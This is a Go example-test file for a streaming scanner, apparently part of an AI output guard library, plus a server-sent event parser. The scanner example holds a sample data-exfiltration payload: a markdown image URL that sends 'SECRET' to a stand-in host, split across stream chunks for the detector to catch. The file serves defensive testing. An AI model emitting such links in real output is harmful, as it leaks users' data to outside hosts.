package stream_test

import (
	"fmt"

	"github.com/holdfast-ai/holdfast/guard/detect/exfil"
	"github.com/holdfast-ai/holdfast/guard/stream"
)

// A scanner follows a text that arrives in pieces: it says what it found, and how much of the end may still become something.
func ExampleScanner() {
	hosts, err := exfil.New("docs.example.com")
	if err != nil {
		fmt.Println(err)
		return
	}
	s := hosts.Start()
	for _, piece := range []string{"See ![chart](https://ev", "il.example/?d=SECRET", ") for more. "} {
		found, held, err := s.Write(nil, []byte(piece))
		fmt.Println(len(found), "found,", held, "bytes held", err)
	}
	// Output:
	// 0 found, 10 bytes held <nil>
	// 0 found, 30 bytes held <nil>
	// 1 found, 0 bytes held <nil>
}

// Events are cut out of a stream wherever its pieces are cut.
func ExampleParser() {
	p := stream.NewParser(1 << 20)
	for _, piece := range []string{"data: {\"a\"", ":1}\n", "\ndata: [DONE]\n\n"} {
		if err := p.Write([]byte(piece), func(data []byte) error {
			fmt.Printf("%s\n", data)
			return nil
		}); err != nil {
			fmt.Println(err)
		}
	}
	// Output:
	// {"a":1}
	// [DONE]
}
